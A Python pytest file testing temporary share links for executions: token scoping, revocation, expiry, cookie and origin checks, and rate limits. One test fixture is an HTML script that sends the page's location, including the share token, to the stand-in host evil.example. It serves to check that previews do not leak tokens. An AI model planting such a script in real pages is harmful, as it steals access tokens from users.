"""Addresses that show one execution to whoever has them, for a while, and nothing else. See also the walk."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from http.cookies import SimpleCookie
from typing import Any
from uuid import UUID, uuid4

import httpx
import pytest
from hand import Hand
from served import Api, Submit
from sqlalchemy import delete, insert, select, update
from uuid_utils.compat import uuid7

from app.auth.model import SHARES_PER_EXECUTION
from app.auth.tables import Share
from app.auth.tokens import Scope
from app.bootstrap import Process
from app.db.engine import reading, transaction
from app.db.orm import clock
from app.logs.protocol import CloseCode
from support.knocking import knock

Json = dict[str, Any]


async def share(client: httpx.AsyncClient, own: str, **fields: Any) -> Json:
    answer = await client.post(f"{own}/shares", json=fields)
    assert answer.status_code == 201, answer.text
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["location"] == f"{own}/shares/{answer.json()['id']}"
    made: Json = answer.json()
    return made


async def test_whoever_has_the_address_reads_all_of_one_execution(
    api: Api, client: httpx.AsyncClient, anonymous: httpx.AsyncClient, submit: Submit, hand: Hand
) -> None:
    own = f"/v1/executions/{await submit()}"
    await hand.start(own.rpartition("/")[2])
    await hand.keep_outputs(own.rpartition("/")[2], {"a.txt": b"abc"})
    made = await share(client, own, note="For the review", expires_in=600)
    links, token = made["links"], made["token"]
    record = await anonymous.get(links["self"])
    assert record.json() == (await client.get(own)).json()
    assert (record.headers["referrer-policy"], record.headers["cache-control"]) == ("no-referrer", "private, no-cache")
    assert (await anonymous.get(links["outputs"])).json()["items"][0]["path"] == "a.txt"
    assert (await anonymous.get(f"{own}/outputs/a.txt?share={token}")).content == b"abc"
    assert (await anonymous.get(f"{links['logs']}&tail=5&format=text")).status_code == 200
    assert (await anonymous.get(own, headers={"Authorization": f"Bearer {token}"})).status_code == 200
    assert (await anonymous.get(f"/v1/executions?share={token}")).status_code == 403
    assert (await anonymous.get(f"{own}/code?share={token}")).status_code == 403
    assert links["tail"].startswith("ws://tailrace/")
    await hand.end(own.rpartition("/")[2])
    async with knock(api.app, links["tail"].removeprefix("ws://tailrace")) as tail:
        assert [frame async for frame in tail.frames()][-1]["type"] == "end"
    seen = (await client.get(f"{own}/shares")).json()["items"]
    assert [(each["id"], each["note"], each["made_by"]) for each in seen] == [
        (made["id"], "For the review", record.json()["owner"])
    ]
    assert token not in str(seen)


async def test_what_a_program_wrote_never_runs_where_it_can_read_the_address(
    client: httpx.AsyncClient, anonymous: httpx.AsyncClient, submit: Submit, hand: Hand
) -> None:
    execution = await submit()
    await hand.start(execution)
    await hand.keep_outputs(execution, {"a.html": b"<script>location = 'http://evil.example/?' + location</script>"})
    own = f"/v1/executions/{execution}"
    token = (await share(client, own))["token"]
    page, header = f"{own}/previews/a.html?as=page", {"Authorization": f"Bearer {token}"}
    assert (await anonymous.get(page, headers=header)).status_code == 200
    for query in (f"share={token}", "share=trs_", "ticket=x"):
        answer = await anonymous.get(f"{page}&{query}", headers={} if token in query else header)
        assert (answer.status_code, token in answer.text) == (403, False)
    download = await anonymous.get(f"{own}/outputs/a.html?share={token}")
    assert download.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in download.headers["content-security-policy"]


async def test_a_revoked_one_shows_nothing_and_who_watches_is_cut(
    api: Api, client: httpx.AsyncClient, anonymous: httpx.AsyncClient, submit: Submit
) -> None:
    own = f"/v1/executions/{await submit()}"
    made, other = await share(client, own), await share(client, own)
    async with knock(api.app, f"{own}/tail?share={made['token']}") as tail:
        assert await tail.first()
        assert (await client.delete(f"{own}/shares/{made['id']}")).status_code == 204
        _ = [frame async for frame in tail.frames()]
        assert tail.code == CloseCode.NOT_AUTHENTICATED
    assert (await anonymous.get(made["links"]["self"])).status_code == 401
    assert (await anonymous.get(other["links"]["self"])).status_code == 200
    assert (await client.delete(f"{own}/shares/{uuid4()}")).status_code == 404
    assert [bool(each["revoked_at"]) for each in (await client.get(f"{own}/shares")).json()["items"]] == [False, True]


async def opened(api: Api, token: str, own: str) -> httpx.AsyncClient:
    """A browser that has opened this share, and its page asks by addresses only."""
    browser = await api.client_with(None)
    answer = await browser.get(f"{own}/share", headers={"Authorization": f"Bearer {token}"})
    assert (answer.status_code, answer.headers["cache-control"]) == (200, "no-store")
    ((name, cookie),) = SimpleCookie(answer.headers["set-cookie"]).items()
    assert (cookie["path"], cookie["httponly"], cookie["samesite"], cookie["max-age"]) == (own, True, "strict", "")
    browser.cookies.clear()
    browser.headers["Cookie"] = f"{name}={cookie.value}"
    return browser


async def test_a_page_says_who_shares_it_and_asks_by_addresses_without_the_token(
    api: Api, client: httpx.AsyncClient, anonymous: httpx.AsyncClient, submit: Submit, hand: Hand
) -> None:
    execution = await submit()
    await hand.start(execution)
    await hand.keep_outputs(execution, {"a.html": b"<p>hello"})
    own = f"/v1/executions/{execution}"
    made = await share(client, own, note="for my own eyes")
    assert made["links"]["page"] == f"http://tailrace/shared/{execution}#{made['token']}"
    header = {"Authorization": f"Bearer {made['token']}"}
    said = await anonymous.get(f"{own}/share", headers=header)
    assert said.json() == {name: made[name] for name in ("id", "execution", "made_by", "created_at", "expires_at")}
    anonymous.cookies.clear()
    browser, here = await opened(api, made["token"], own), f"share={made['id']}"
    assert (await browser.get(f"{own}/outputs/a.html?{here}")).content == b"<p>hello"
    page = await browser.get(f"{own}/previews/a.html?as=page&{here}")
    assert (page.status_code, page.headers["referrer-policy"]) == (200, "no-referrer")
    # The cookie alone is nothing, nor is the address alone, nor another's.
    assert (await browser.get(own)).status_code == 401
    assert (await anonymous.get(f"{own}?{here}")).status_code == 401
    other = await share(client, own)
    assert (await browser.get(f"{own}?share={other['id']}")).status_code == 401
    assert (await browser.get(f"/v1/executions/{await submit()}?{here}")).status_code == 404
    assert (await browser.get(f"/v1/executions?{here}")).status_code == 403
    assert (await browser.delete(f"{own}?{here}", headers={"Origin": "http://tailrace"})).status_code == 403
    page_of = {"cookie": browser.headers["cookie"], "host": "tailrace"}
    for origin, code in (("http://tailrace", None), ("http://evil.example", CloseCode.NOT_ALLOWED)):
        async with knock(api.app, f"{own}/tail?{here}", origin=origin, **page_of) as tail:
            await tail.first()
            assert tail.code == code
    async with knock(api.app, f"/v1/events?{here}", origin="http://tailrace", **page_of) as events:
        await events.first()
        assert events.code == CloseCode.NOT_ALLOWED


async def test_a_share_and_the_session_of_a_browser_never_stand_for_each_other(
    api: Api, client: httpx.AsyncClient, submit: Submit
) -> None:
    own = f"/v1/executions/{await submit()}"
    made = await share(client, own)
    browser = await opened(api, made["token"], own)
    begun = await (await api.client("stranger", Scope.READ, Scope.CANCEL)).post("/v1/session")
    session = SimpleCookie(begun.headers["set-cookie"])["tailrace_session"].value
    browser.headers["Cookie"] += f"; tailrace_session={session}"
    assert (await browser.get("/v1/me")).json()["owner"] == "stranger"
    assert (await browser.get(own)).status_code == 404
    assert (await browser.get(f"{own}?share={made['id']}")).status_code == 200
    assert (await browser.get(f"{own}/share")).status_code == 404
    for share_id in (made["id"], uuid4()):
        assert (await browser.get(f"/v1/me?share={share_id}")).status_code in {401, 403}
    # Nobody makes a session of a cookie that is called as a share is.
    planted = await api.client_with(None)
    planted.headers["Cookie"] = f"tailrace_share_{UUID(made['id']).hex}={session}"
    assert (await planted.get(f"/v1/me?share={made['id']}")).status_code == 401


async def test_who_comes_late_is_told_why_it_shows_nothing(
    client: httpx.AsyncClient, anonymous: httpx.AsyncClient, submit: Submit, process: Process
) -> None:
    own = f"/v1/executions/{await submit()}"
    revoked, expired, gone = [await share(client, own) for _ in range(3)]
    await client.delete(f"{own}/shares/{revoked['id']}")
    async with transaction(process.database) as connection:
        await connection.execute(update(Share).where(Share.id == UUID(expired["id"])).values(expires_at=clock()))
        await connection.execute(delete(Share).where(Share.id == UUID(gone["id"])))
    for made, why in ((revoked, "It was revoked at"), (expired, "It expired at"), (gone, "may have been deleted")):
        answer = await anonymous.get(f"{own}/share", headers={"Authorization": f"Bearer {made['token']}"})
        assert answer.status_code == 401
        assert why in answer.json()["hint"]


async def test_an_expired_one_is_none_and_it_goes_with_the_execution(
    client: httpx.AsyncClient, anonymous: httpx.AsyncClient, submit: Submit, process: Process
) -> None:
    own = f"/v1/executions/{await submit()}"
    made = await share(client, own)
    async with transaction(process.database) as connection:
        await connection.execute(update(Share).where(Share.id == UUID(made["id"])).values(expires_at=clock()))
    assert (await anonymous.get(made["links"]["self"])).status_code == 401
    await client.post(f"{own}/cancel")
    assert (await client.delete(own)).status_code == 204
    async with reading(process.database) as connection:
        assert (await connection.execute(select(Share.id).where(Share.id == UUID(made["id"])))).first() is None


async def test_it_does_not_outlive_the_token_that_it_was_made_with(
    api: Api, client: httpx.AsyncClient, submit: Submit
) -> None:
    own = f"/v1/executions/{await submit()}"
    body = {"name": "t", "scopes": ["read", "submit"], "expires_in": 600}
    token = (await client.post("/v1/tokens", json=body)).json()
    brief = await api.client_with(token["token"])
    assert (await share(brief, own))["expires_at"] <= token["expires_at"]
    answer = await brief.post(f"{own}/shares", json={"expires_in": 700})
    assert (answer.status_code, answer.json()["errors"][0]["field"]) == (422, "expires_in")
    assert (await share(client, own))["expires_at"] > token["expires_at"]


async def test_one_execution_is_shared_only_so_often(
    client: httpx.AsyncClient, submit: Submit, process: Process
) -> None:
    execution = await submit()
    rows = [
        {
            "id": uuid7(),
            "hash": os.urandom(32),
            "execution_id": UUID(execution),
            "made_by": "ann",
            "expires_at": datetime(2999, 1, 1, tzinfo=UTC),
        }
        for _ in range(SHARES_PER_EXECUTION)
    ]
    async with transaction(process.database) as connection:
        await connection.execute(insert(Share), rows)
    answer = await client.post(f"/v1/executions/{execution}/shares")
    assert (answer.status_code, answer.json()["limit"]) == (429, SHARES_PER_EXECUTION)


@pytest.mark.parametrize("how", ["beside a header", "alone"])
async def test_no_other_token_is_taken_from_an_address(how: str, api: Api, submit: Submit) -> None:
    own = f"/v1/executions/{await submit()}"
    token = await api.token("admin", Scope.ADMIN)
    client = await api.client_with(await api.token("admin", Scope.ADMIN) if how != "alone" else None)
    answer = await client.get(own, params={"share": token})
    assert answer.status_code == (401 if how == "alone" else 200)
    assert token not in answer.text
